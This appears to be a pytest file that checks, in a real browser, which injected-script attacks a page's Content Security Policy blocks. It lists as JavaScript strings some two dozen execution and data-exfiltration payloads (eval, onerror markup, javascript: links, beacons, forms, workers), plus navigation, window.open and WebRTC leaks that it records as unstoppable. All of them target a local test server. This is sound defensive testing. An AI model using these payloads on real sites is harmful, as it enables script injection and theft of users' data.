"""Script that got into the page all the same: what the page's policy stops, shown in a browser, and what no policy stops.

Each attack is made by script that runs in the page as its own. It has worked when a server elsewhere heard of it, or when what it brought
in has run; it is stopped when the browser says so. Without the policy every one of them works: that is the control.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import count

import pytest
from playwright.sync_api import Error, Page

from tests.driver.browser import Browser
from tests.driver.host import Host

STOPPED = {
    "inline script": "const s = document.createElement('script'); s.text = ran; document.body.append(s)",
    "inline handler": "document.body.setAttribute('onclick', ran); document.body.click()",
    "markup": 'document.body.innerHTML = `<img src=x onerror="${ran}">`',
    "script address": "const a = document.createElement('a'); a.href = 'javascript:' + ran; document.body.append(a); a.click()",
    "eval": "eval(ran)",
    "function of text": "new Function(ran)()",
    "timer of text": "setTimeout(ran, 0)",
    "remote script": "const s = document.createElement('script'); s.src = away; document.body.append(s)",
    "remote module": "import(away)",
    "blob worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${away}', {mode: 'no-cors'})`])))",
    "data worker": "new Worker(`data:text/javascript,fetch('${away}', {mode: 'no-cors'})`)",
    "fetch": "fetch(away, {mode: 'no-cors'})",
    "request": "const r = new XMLHttpRequest(); r.open('GET', away); r.send()",
    "beacon": "navigator.sendBeacon(away, 'secret')",
    "socket": "new WebSocket(away.replace('http', 'ws'))",
    "event stream": "new EventSource(away)",
    "picture": "new Image().src = away",
    "sound": "new Audio(away).load()",
    "style sheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = away; document.head.append(l)",
    "inline style": "const s = document.createElement('style'); s.textContent = `body{background:url(${away})}`; document.head.append(s)",
    "font": "new FontFace('f', `url(${away})`).load()",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = away; document.head.append(l)",
    "frame": "const f = document.createElement('iframe'); f.src = away; document.body.append(f)",
    "object": "const o = document.createElement('object'); o.data = away; document.body.append(o)",
    "form": "const f = document.createElement('form'); f.action = away; f.method = 'post'; document.body.append(f); f.submit()",
    "base": "const b = document.createElement('base'); b.href = away + '/'; document.head.prepend(b); fetch('x', {mode: 'no-cors'})",
}
NOT_STOPPED = {
    "navigation": "location.href = away + '?secret'",
    "window": "window.open(away + '?secret')",
    "address server": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + stun}]});"
    " c.createDataChannel('x'); void c.setLocalDescription()",
}
"""No directive of a policy forbids these in today's browsers without forbidding what Parley is for. `docs/threat-model.md` says so."""

ATTACKS = ", ".join(
    f"{name!r}: async ({{away, stun, ran}}) => {{ {text} }}" for name, text in (STOPPED | NOT_STOPPED).items()
)


POLL_MS, PATIENCE_MS = 50, 20_000


class Handler(BaseHTTPRequestHandler):
    """Answers whoever asks for anything, and notes that somebody did."""

    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.add("/" + self.path[1:].partition("?")[0].partition("/")[0])
        self.send_response(200)
        self.send_header("content-type", "text/javascript")
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        """Nothing is written."""


class Elsewhere(ThreadingHTTPServer):
    """A server of somebody else, and an address server (STUN): each knows only that it was asked."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked: set[str] = set()
        self._attempts = count()
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.stun = f"127.0.0.1:{self._udp.getsockname()[1]}"
        for task in (self.serve_forever, self._listen):
            threading.Thread(target=task, daemon=True).start()

    def place(self) -> str:
        """A path that was never asked for: what an earlier attack still brings is not taken for a later one's."""
        return f"/taken-{next(self._attempts)}"

    def _listen(self) -> None:
        while self._udp.recv(2048) != b"stop":
            self.asked.add(self.stun)

    def close(self) -> None:
        self.shutdown()
        self.server_close()
        self._udp.sendto(b"stop", self._udp.getsockname())


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    one = Elsewhere()
    yield one
    one.close()


@pytest.fixture(scope="module")
def guarded(browser: Browser, host: Host) -> Iterator[Page]:
    """The page as the host delivers it. What is stopped leaves it as it was."""
    page = browser.context().new_page()
    page.goto(host.origin)
    yield page
    page.context.close()


class Bare(BaseHTTPRequestHandler):
    """An empty page without a policy."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><body></body>")

    def log_message(self, *_: object) -> None:
        """Nothing is written."""


@pytest.fixture(scope="module")
def unguarded() -> Iterator[str]:
    """The address of an origin whose page has no policy."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Bare)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


@pytest.fixture
def bare(browser: Browser, unguarded: str) -> Iterator[Page]:
    """A fresh page there: some attacks leave nothing of it."""
    page = browser.context().new_page()
    page.goto(unguarded)
    yield page
    page.context.close()


def attacked(page: Page, elsewhere: Elsewhere, attack: str) -> str:
    """`worked`, or `stopped` when the browser said so; waits until it is one of them."""
    place = elsewhere.place()
    # What runs from a timer runs under the page's policy, as its own script does; what a driver evaluates itself would not.
    page.evaluate(
        f"""({{attack, away, stun}}) => {{
            const attacks = {{ {ATTACKS} }}
            globalThis.gotIn = globalThis.stopped = false
            document.addEventListener('securitypolicyviolation', () => {{ globalThis.stopped = true }}, {{once: true}})
            const attempt = () => attacks[attack]({{away, stun, ran: 'globalThis.gotIn = true'}})
            setTimeout(() => attempt().catch(() => {{ globalThis.stopped = true }}), 0)
        }}""",
        {"attack": attack, "away": f"http://127.0.0.1:{elsewhere.server_port}{place}", "stun": elsewhere.stun},
    )
    for _ in range(PATIENCE_MS // POLL_MS):
        try:
            got_in, stopped = page.evaluate("() => [globalThis.gotIn === true, globalThis.stopped === true]")
        except Error:  # the page has gone away, which is what some of them are for
            got_in, stopped = False, False
        if got_in or elsewhere.asked & {place, elsewhere.stun}:
            return "worked"
        if stopped:
            return "stopped"
        page.wait_for_timeout(POLL_MS)
    return "neither"


@pytest.mark.parametrize("attack", STOPPED)
def test_the_policy_stops_it(guarded: Page, bare: Page, elsewhere: Elsewhere, attack: str) -> None:
    assert attacked(bare, elsewhere, attack) == "worked"
    assert attacked(guarded, elsewhere, attack) == "stopped"


@pytest.mark.parametrize("attack", NOT_STOPPED)
def test_no_policy_stops_it(browser: Browser, host: Host, elsewhere: Elsewhere, attack: str) -> None:
    """Known and said: should a browser come that stops it, this fails and the page of limits changes."""
    page = browser.context().new_page()
    page.goto(host.origin)
    assert attacked(page, elsewhere, attack) == "worked"
    page.context.close()
